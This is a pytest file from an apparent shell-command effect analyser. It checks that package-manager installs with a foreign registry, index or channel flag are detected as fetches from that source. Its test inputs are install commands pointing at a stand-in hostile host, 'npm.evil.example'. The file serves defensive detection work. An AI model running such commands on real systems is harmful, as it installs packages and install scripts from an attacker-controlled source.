"""A package manager told on its own command line to fetch from a foreign source (review47, fixes43's package
sources by other programs and spellings): npm's, pnpm's, bun's and yarn's `--registry`, uv's index options and
conda's channels, in either spelling (`--registry URL`, `--registry=URL`, a prefix npm takes), are pip's
`--index-url` (programs.json `index_options`): the packages and their install scripts come from there."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import effects


def _fetched(line: str, proj: Path) -> list[str]:
    return [str(e.get("url")) for e in effects(line, proj) if e["op"] == "fetch"]


@pytest.mark.parametrize(
    "line",
    [
        "npm install --registry=https://npm.evil.example/ left-pad",
        "npm i --reg=https://npm.evil.example/ left-pad",
        "pnpm add left-pad --registry https://npm.evil.example/",
        "bun add left-pad --registry=https://npm.evil.example/",
        "yarn add left-pad --registry=https://npm.evil.example/",
        "uv pip install -i https://npm.evil.example/simple requests",
        "uv add requests --default-index https://npm.evil.example/simple",
        "conda install -c https://npm.evil.example/main numpy",
        "micromamba install --channel=https://npm.evil.example/main numpy",
    ],
)
def test_a_foreign_source_on_the_command_line_is_fetched_from(line: str, tmp_path: Path) -> None:
    assert any(url.startswith("https://npm.evil.example/") for url in _fetched(line, tmp_path))


@pytest.mark.parametrize(
    "line",
    [
        "npm install --registry=https://registry.npmjs.org/ left-pad",
        "uv pip install -i https://pypi.org/simple requests",
        "conda install -c conda-forge numpy",
        "npm install left-pad",
    ],
)
def test_the_public_source_or_a_channel_name_is_none(line: str, tmp_path: Path) -> None:
    assert _fetched(line, tmp_path) == []
